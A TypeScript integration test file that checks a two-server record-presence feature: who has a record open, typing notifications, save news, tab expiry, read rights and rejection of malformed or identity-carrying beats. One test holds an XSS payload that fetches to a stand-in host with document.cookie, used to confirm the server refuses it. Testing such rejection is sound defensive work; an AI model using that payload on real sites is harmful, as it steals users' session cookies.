// Presence on records across two servers of one database (issue 22 §2): who has a record open, the field they type
// in, the saves of a record one has open, and a closed tab gone within 30 s. A beat names a field of the record its
// sender sees (over every catalogue type), on a live record its sender reads itself, and carries no identity.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { componentIdsOf } from '../../model/layouts/merge.js';
import type { DataSchema } from '../../model/metaSchema.js';
import { isHiddenFrom } from '../../model/propertyVisibility.js';
import { hasAnyRight, RIGHT_FLAGS, typeRightsOf } from '../../model/rights.js';
import { ApiClient, userWith } from './client.js';
import { ADMIN, startTwoServers, type RunningServer } from '../support/startServer.js';
import { openStream, type Stream } from '../support/attacker.js';

let first: RunningServer;
let second: RunningServer;
let admin: ApiClient;
/** Alice works on the first server, Bruno on the second. */
let alice: ApiClient;
let bruno: ApiClient;
let aliceLogin: string;
let recordId: string;
const SITE = 'demo-prod';
const streams: Stream[] = [];

const presencePath = (id = recordId) => `/api/${SITE}/presence/TextContent/${id}`;
const tabA = 'onglet-alice-0001';
const tabB = 'onglet-bruno-0001';

/** The data of the events of one name heard on a stream, oldest first. */
const heard = (stream: Stream, name: string) =>
  [...stream.body.matchAll(/event: (\w+)\ndata: (.*)\n/g)].filter((m) => m[1] === name).map((m) => JSON.parse(m[2]));

async function until<T>(what: () => T | undefined, ms = 10_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const value = what();
    if (value !== undefined) return value;
    if (Date.now() > end) throw new Error('attendu en vain');
    await new Promise((r) => setTimeout(r, 100));
  }
}

beforeAll(async () => {
  ({ first, second } = await startTwoServers());
  admin = await ApiClient.login(ADMIN.login, ADMIN.password, first.url);
  alice = await userWith(admin, { rights: { contents: true } });
  aliceLogin = (await alice.get('/api/auth/me')).body.login;
  const brunoOnFirst = await userWith(admin, { rights: { contents: true } });
  bruno = new ApiClient(second.url);
  bruno.cookie = brunoOnFirst.cookie;
  const created = await admin.post(`/api/${SITE}/data/TextContent`, { label: 'Page à deux' });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  recordId = created.body._id;
}, 180_000);
afterAll(async () => {
  for (const s of streams) s.close();
  await second?.stop();
  await first?.stop();
});

describe('presence across servers', () => {
  it('shows who else has the record open, on the record and on the list, from either server', async () => {
    expect((await alice.put(presencePath(), { tab: tabA })).body.viewers).toEqual([]);
    const seenByBruno = await bruno.put(presencePath(), { tab: tabB });
    expect(seenByBruno.status, JSON.stringify(seenByBruno.body)).toBe(200);
    expect(seenByBruno.body.viewers).toEqual([
      { userId: expect.any(String), name: aliceLogin, initials: expect.stringMatching(/^U[0-9]$/), field: null, fieldIdleMs: null },
    ]);
    const list = await alice.get(`/api/${SITE}/presence/TextContent?ids=${recordId},inconnu`);
    expect(Object.keys(list.body.records)).toEqual([recordId]);
    expect(list.body.records[recordId][0].name).not.toBe(aliceLogin);
  });

  it("tells the other server's streams who types in which field, and who saved the record", async () => {
    const stream = await openStream(second.url, bruno.cookie, streams);
    expect(stream.status).toBe(200);
    await alice.put(presencePath(), { tab: tabA, field: 'label', typing: true });
    const typing = await until(() =>
      heard(stream, 'presence').find((e) => e.id === recordId && e.viewers.some((v: { field: string }) => v.field === 'label')),
    );
    expect(typing).toMatchObject({ siteId: SITE, type: 'TextContent' });
    expect(typing.viewers.find((v: { field: string }) => v.field === 'label')).toMatchObject({ name: aliceLogin, fieldIdleMs: expect.any(Number) });

    const saved = await alice.put(`/api/${SITE}/data/TextContent/${recordId}`, { label: 'Page à deux, revue' });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    const news = await until(() => heard(stream, 'record').find((e) => e.id === recordId));
    expect(news).toMatchObject({ siteId: SITE, type: 'TextContent', action: 'update', by: { name: aliceLogin } });
    // The version written, as the save's ETag says it: the saving screen holds it already and reads nothing.
    expect(`"${news.version}"`).toBe(saved.headers.get('etag'));
  });

  it('answers a beat with the stored version, and who saved it when the screen shows an older one', async () => {
    const read = await bruno.get(`/api/${SITE}/data/TextContent/${recordId}`);
    const shown = Number(JSON.parse(read.headers.get('etag')!));
    expect((await bruno.put(presencePath(), { tab: tabB, version: shown })).body).toEqual({ viewers: expect.any(Array), version: shown });
    // Alice saves before Bruno's screen beats (its first beat: the save's news went to the people already on the record).
    const saved = await alice.put(`/api/${SITE}/data/TextContent/${recordId}`, { label: 'Page à deux, relue' });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    const beat = await bruno.put(presencePath(), { tab: tabB, version: shown });
    expect(beat.body).toMatchObject({ version: Number(JSON.parse(saved.headers.get('etag')!)), savedBy: { name: aliceLogin } });
    expect((await bruno.put(presencePath(), { tab: tabB, version: -1 })).status).toBe(400);
  });

  it('forgets a tab that leaves at once, and one that stops beating within 30 s', async () => {
    const stream = await openStream(first.url, alice.cookie, streams);
    await bruno.del(`${presencePath()}?tab=${tabB}`);
    await until(() => heard(stream, 'presence').find((e) => e.id === recordId && e.viewers.every((v: { name: string }) => v.name === aliceLogin)));
    await bruno.put(presencePath(), { tab: tabB });
    expect((await alice.put(presencePath(), { tab: tabA })).body.viewers).toHaveLength(1);
    const stopped = Date.now();
    const before = heard(stream, 'presence').length;
    // Bruno's tab beats no more (a closed tab, or a killed server: the row is the database's); Alice's goes on.
    const beating = setInterval(() => void alice.put(presencePath(), { tab: tabA }), 5_000);
    try {
      await until(
        () =>
          heard(stream, 'presence')
            .slice(before)
            .find((e) => e.id === recordId && e.viewers.length === 1),
        32_000,
      );
    } finally {
      clearInterval(beating);
    }
    expect(Date.now() - stopped).toBeLessThanOrEqual(30_000);
    expect((await alice.put(presencePath(), { tab: tabA })).body.viewers).toEqual([]);
  }, 45_000);

  it('asks for the right to read the type, and refuses malformed beats in French', async () => {
    const outsider = await userWith(admin, { rights: { products: true } });
    const refused = await outsider.put(presencePath(), { tab: 'onglet-intrus-01' });
    expect(refused.status).toBe(403);
    for (const body of [{}, { tab: 'court' }, { tab: tabA, field: 'x'.repeat(301) }, { tab: tabA, typing: 'oui' }]) {
      const res = await alice.put(presencePath(), body);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.body.message).toMatch(/[a-zé]/);
    }
    expect((await alice.get(`/api/${SITE}/presence/TextContent`)).status).toBe(400);
    expect((await alice.put(`/api/${SITE}/presence/Inconnu/x`, { tab: tabA })).status).toBe(404);
  });

  it('tells the others when someone comes or changes field, and of typing on in one field once per 20 s, not at each beat', async () => {
    const created = await admin.post(`/api/${SITE}/data/TextContent`, { label: 'Page tapée' });
    const id = created.body._id as string;
    const stream = await openStream(second.url, bruno.cookie, streams);
    const news = () => heard(stream, 'presence').filter((e) => e.id === id);
    const tab = 'onglet-alice-frappe';
    const started = Date.now();
    await alice.put(presencePath(id), { tab, field: 'label', typing: true });
    await until(() => (news().length === 1 ? true : undefined));
    // Typing on in the same field, a beat every 4 s as a busy console might: no news until the 20 s keep-alive.
    while (Date.now() - started < 16_000) {
      await new Promise((r) => setTimeout(r, 4_000));
      await alice.put(presencePath(id), { tab, field: 'label', typing: true });
    }
    await new Promise((r) => setTimeout(r, 500));
    expect(news()).toHaveLength(1);
    while (Date.now() - started < 21_000) await new Promise((r) => setTimeout(r, 500));
    await alice.put(presencePath(id), { tab, field: 'label', typing: true });
    const kept = await until(() => (news().length === 2 ? news()[1] : undefined));
    expect(kept.viewers.find((v: { name: string }) => v.name === aliceLogin)).toMatchObject({ field: 'label' });
    await alice.put(presencePath(id), { tab, field: 'chapo', typing: true });
    await until(() => (news().length === 3 ? true : undefined));
    await alice.del(`${presencePath(id)}?tab=${tab}`);
    await until(() => (news().length === 4 ? true : undefined));
  }, 40_000);

  it('refuses in French a beat carrying an identity or any other key, and one on a missing or archived record', async () => {
    for (const extra of [{ userId: 'quelqu-un-d-autre' }, { name: 'Directeur' }, { initials: 'XX' }]) {
      const res = await alice.put(presencePath(), { tab: tabA, ...extra });
      expect(res.status, JSON.stringify(extra)).toBe(400);
      expect(res.body.message).toBe(`Requête invalide : corps « ${Object.keys(extra)[0]} » n'est pas attendu`);
    }
    const html = `<img src=x onerror="fetch('//evil.example/'+document.cookie)"><b>${'x'.repeat(160)}</b>`;
    const markup = await alice.put(presencePath(), { tab: tabA, field: html, typing: true });
    expect(markup.status).toBe(400);
    expect(markup.body).toMatchObject({ error: 'BAD_FIELD', fields: { field: 'Champ inconnu de ce type' } });
    expect(
      (await admin.get(`/api/${SITE}/presence/TextContent?ids=${recordId}`)).body.records[recordId]?.some((v: { field: string }) => v.field === html),
    ).not.toBe(true);

    const missing = await alice.put(presencePath('inexistant-presence'), { tab: tabA });
    expect(missing.status).toBe(404);
    expect(missing.body.message).toBe('Enregistrement introuvable');
    const archived = (await admin.post(`/api/${SITE}/data/TextContent`, { label: 'Page archivée' })).body._id as string;
    expect((await admin.del(`/api/${SITE}/data/TextContent/${archived}`)).status).toBe(200);
    expect((await alice.put(presencePath(archived), { tab: tabA })).status).toBe(404);
  });

  it("asks for the records' read: a user who reads a type's labels only through a reference is not on its records", async () => {
    const schemas: DataSchema[] = (await admin.get('/api/global/data/schema?limit=1000')).body.data;
    const rights = typeRightsOf(schemas);
    const onSite = schemas.filter((t) => t.storedInInstanceDatabase !== false && t.hasAssociatedDBCollection !== false);
    const pairs = onSite.flatMap((t) =>
      RIGHT_FLAGS.filter((f) => {
        const r = rights.get(t._id)!;
        return r.labels.has(f) && !hasAnyRight({ _id: 'x', login: 'x', rights: { [f]: true } }, r.full);
      }).map((flag) => ({ type: t._id, flag })),
    );
    let checked = 0;
    const readers = new Map<string, ApiClient>();
    for (const { type, flag } of pairs) {
      const id = (await admin.get(`/api/${SITE}/data/${type}?limit=1`)).body.data?.[0]?._id;
      if (!id) continue;
      if (!readers.has(flag)) readers.set(flag, await userWith(admin, { rights: { [flag]: true } }));
      const reader = readers.get(flag)!;
      expect((await reader.get(`/api/${SITE}/data/${type}/${id}`)).status, `${type} en ${flag}`).toBe(200);
      const beat = await reader.put(`/api/${SITE}/presence/${type}/${id}`, { tab: 'onglet-etiquettes' });
      expect(beat.status, `${type} en ${flag}`).toBe(403);
      checked++;
    }
    expect(checked).toBeGreaterThan(0);
  });

  it('takes as field, over every catalogue type, each property its sender sees (or a component of a layout), and nothing else', async () => {
    const me = (await admin.get('/api/auth/me')).body;
    const other = await userWith(admin, { superAdmin: true });
    const schemas: DataSchema[] = (await admin.get('/api/global/data/schema?limit=1000')).body.data;
    const mismatches: string[] = [];
    let types = 0;
    for (const schema of schemas.filter((t) => t.storedInInstanceDatabase !== false && t.hasAssociatedDBCollection !== false)) {
      const record = (await admin.get(`/api/${SITE}/data/${schema._id}?limit=1`)).body.data?.[0];
      if (!record) continue;
      types++;
      const path = `/api/${SITE}/presence/${schema._id}/${record._id}`;
      const tab = `onglet-types-${schema._id}`.slice(0, 64);
      /** `seen`: what the others are shown, read for one field of each type and the layouts' components. */
      const beat = async (field: string, expected: number, seen?: string) => {
        const res = await admin.put(path, { tab, field, typing: true });
        if (res.status !== expected) return mismatches.push(`${schema._id} « ${field} » : ${res.status}, attendu ${expected}`);
        if (seen === undefined) return;
        const viewers = (await other.get(`${path.replace(`/${record._id}`, '')}?ids=${record._id}`)).body.records[record._id] ?? [];
        if (!viewers.some((v: { field: string }) => v.field === seen)) mismatches.push(`${schema._id} « ${field} » : vu ${JSON.stringify(viewers)}`);
      };
      const shown = schema.propertiesList.filter((p) => !isHiddenFrom(p, me));
      for (const prop of schema.propertiesList) await beat(prop.key, shown.includes(prop) ? 200 : 400, prop === shown[0] ? prop.key : undefined);
      for (const prop of shown.filter((p) => p.type === 'layout')) {
        const [component] = componentIdsOf(record[prop.key]);
        if (component) await beat(`${prop.key}/${component}`, 200, `${prop.key}/${component}`);
        await beat(`${prop.key}/pas-encore-enregistre`, 200, prop.key);
        await beat(`${prop.key}/<i>x</i>`, 400);
      }
      const plain = shown.find((p) => p.type !== 'layout');
      if (plain) await beat(`${plain.key}/composant`, 400);
      await beat('champInconnu', 400);
      await admin.del(`${path}?tab=${tab}`);
    }
    expect(types).toBeGreaterThan(10);
    expect(mismatches).toEqual([]);
  }, 120_000);
});
